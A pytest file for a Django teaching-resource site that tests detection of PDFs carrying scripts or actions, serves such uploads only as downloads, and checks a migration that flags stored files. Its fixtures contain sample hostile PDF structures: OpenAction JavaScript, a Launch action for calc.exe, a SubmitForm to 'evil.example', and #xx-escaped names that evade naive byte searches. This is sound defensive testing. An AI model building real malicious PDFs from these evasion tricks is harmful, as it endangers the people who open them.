"""A PDF that runs something when opened or clicked is never opened in the page: it is offered as a download,
and the page says why. Clean PDFs keep opening inline; other inline files are served sandboxed."""

import io

import pytest

from zhijiao.resources import samples
from zhijiao.resources.models import Resource, ResourceFile
from zhijiao.resources.pdf_actions import pdf_has_scripts


def pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """samples.pdf with these extras; its objects 6, 7, … are `extra_objects`."""
    return samples.pdf("x", catalog_extra=catalog_extra, page_extra=page_extra, extra_objects=extra_objects)


OPEN_ACTION_JS = pdf(b"/OpenAction 6 0 R", extra_objects=(b"<< /S /JavaScript /JS (app.alert(1)) >>",))


@pytest.mark.parametrize("data", [
    OPEN_ACTION_JS,
    # the same with its names written in #xx escapes, which a byte search for "/JavaScript" misses
    pdf(b"/OpenAction 6 0 R", extra_objects=(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",)),
    pdf(b"/OpenAction << /S /Laun#63h /F (calc.exe) >>"),
    pdf(b"/Names << /J#61vaScript 6 0 R >>", extra_objects=(b"<< /Names [(a) 7 0 R] >>",
                                                           b"<< /S /J#61vaScript /J#53 (x()) >>")),
    pdf(page_extra=b"/Annots [6 0 R]", extra_objects=(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Sub#6DitForm /F (http://evil.example/) >> >>",)),
    pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Laun#63h /F (x) >> >>"),  # a chain of actions
    pdf(page_extra=b"/AA << /O << /S /Laun#63h /F (x) >> >>"),  # when the page is opened
    samples.pdf("cut short")[:200],  # unreadable, so nobody can say it has none
    b"%PDF-1.4 garbage",
])
def test_pdfs_with_scripts_or_actions_are_found(data):
    assert pdf_has_scripts(io.BytesIO(data)) is True


@pytest.mark.parametrize("data", [
    samples.pdf("plain"),
    pdf(b"/OpenAction [3 0 R /Fit]"),  # opens at the first page: no action
    pdf(page_extra=b"/Annots [6 0 R]", extra_objects=(  # an ordinary web link
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://basic.smartedu.cn/) >> >>",)),
])
def test_ordinary_pdfs_are_not_flagged(data):
    assert pdf_has_scripts(io.BytesIO(data)) is False


def _main(html: str) -> str:
    return html.split("<main")[1].split("</main>")[0]


def test_an_uploaded_pdf_with_a_script_is_offered_only_as_a_download(lib, client_as):
    client = client_as(lib.users["laoshi"])
    resp = client.post(f"/resources/upload/?book={lib.chapter.book.code}", {
        "type": "lesson_plan", "title": "《花的学校》教学设计", "level": "school", "sharing": "district",
        "licence": "CC-BY-NC-4.0", "chapters": [lib.chapter.pk], "file": lib.upload("花的学校.pdf", OPEN_ACTION_JS),
        "book": lib.chapter.book.code,
    })
    assert resp.status_code == 302, resp.content.decode()[:2000]
    r = Resource.objects.get(title="《花的学校》教学设计")
    f = r.files.get()
    assert f.has_scripts
    page = _main(client.get(f"/resources/{r.pk}/").content.decode())
    assert "<iframe" not in page and "含有脚本" in page and "?download=1" in page
    opened = client.get(f"/resources/{r.pk}/files/{f.pk}/")
    assert opened.status_code == 200 and opened["Content-Disposition"].startswith("attachment;")


def test_a_clean_pdf_still_opens_in_the_page_and_other_inline_files_are_sandboxed(lib, client_as):
    clean = lib.make(title="干净的 PDF", file=("a.pdf", samples.pdf("ok")))
    image = lib.make(title="图片", file=("a.png", samples.png()))
    client = client_as(lib.users["laoshi"])
    assert "<iframe" in _main(client.get(f"/resources/{clean.pk}/").content.decode())
    f = clean.files.get()
    served = client.get(f"/resources/{clean.pk}/files/{f.pk}/")
    assert served["Content-Disposition"].startswith("inline;")
    img = image.files.get()
    served = client.get(f"/resources/{image.pk}/files/{img.pk}/")
    assert served["Content-Disposition"].startswith("inline;")
    assert served["Content-Security-Policy"].startswith("sandbox;")


@pytest.mark.django_db(transaction=True)
def test_pdfs_stored_before_the_upgrade_are_checked_by_the_migration(settings, tmp_path):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    from zhijiao.core.tests.migrating import migrate_to, migrate_to_latest

    settings.MEDIA_ROOT = tmp_path
    try:
        old = migrate_to([("resources", "0004_delete_notification")])
        OldResource = old.get_model("resources", "Resource")
        OldFile = old.get_model("resources", "ResourceFile")
        r = OldResource.objects.create(type="document", title="旧资源")
        for name, data in (("bad.pdf", OPEN_ACTION_JS), ("good.pdf", samples.pdf("ok"))):
            path = default_storage.save(f"resources/old/{name}", ContentFile(data))
            OldFile.objects.create(resource=r, file=path, original_name=name, mime_type="application/pdf",
                                   size=len(data), sha256=name)
        migrate_to([("resources", "0005_pdf_has_scripts")])
        flags = dict(ResourceFile.objects.filter(resource_id=r.pk).values_list("original_name", "has_scripts"))
        assert flags == {"bad.pdf": True, "good.pdf": False}
    finally:
        migrate_to_latest()
